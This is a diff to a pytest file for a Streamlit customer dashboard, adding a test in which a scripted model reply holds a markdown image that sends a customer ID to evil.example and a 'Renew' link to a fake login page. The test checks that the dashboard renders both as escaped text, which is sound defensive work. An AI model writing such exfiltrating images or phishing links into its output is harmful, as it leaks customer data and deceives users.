@@ -9,12 +9,16 @@ import pandas as pd
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from agent.explain import ModelExplainer
+from agent.runtime import Runtime
+from agent.telemetry import NullRecorder
 from dashboard import customer_view, sources
 from dashboard.recent import RecentAnswers
 from dashboard.wording import plain
+from tests.agent.scripted_model import ScriptedModel
 from tests.conftest import seed_example
 from tests.dashboard.apptest import go_to, load_sample, open_app, table_with, texts
-from tests.dashboard.servers import free_port
+from tests.dashboard.servers import free_port, running_runtime
 
 
 def _cards(at: AppTest) -> list[str]:
@@ -143,6 +147,22 @@ def test_the_form_analyses_a_typed_customer() -> None:
     assert not at.exception
     assert at.subheader[0].value == "C-NEW-1 · Izmir, Ege"
     assert len(_cards(at)) == 7
+
+
+def test_an_image_and_a_link_the_model_wrote_show_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
+    reply = "## C-1001\nAt risk ![x](https://evil.example/p.png?d=C-1001) [Renew](https://evil.example/login)"
+    explainer = ModelExplainer(lambda: ScriptedModel([reply]), timeout_s=10)
+
+    with running_runtime(Runtime(explainer, None, NullRecorder())) as url:
+        monkeypatch.setenv("SEGMENT_RUNTIME_URL", url)
+        at = go_to(open_app(), "customer")
+        at.text_area(key="customer_json").set_value(json.dumps(seed_example("example-request")))
+        at.button(key="analyse_json").click().run()
+
+    assert not at.exception
+    assert "Explanation by the agent's language model." in texts(at, "caption")
+    assert "#### C-1001\nAt risk !\\[x\\](https:\u2060//evil.example/p.png?d=C-1001) \\[Renew\\](https:\u2060//evil" \
+           ".example/login)" in texts(at, "markdown")
 
 
 def test_backend_down_is_a_clear_error(monkeypatch: pytest.MonkeyPatch) -> None:
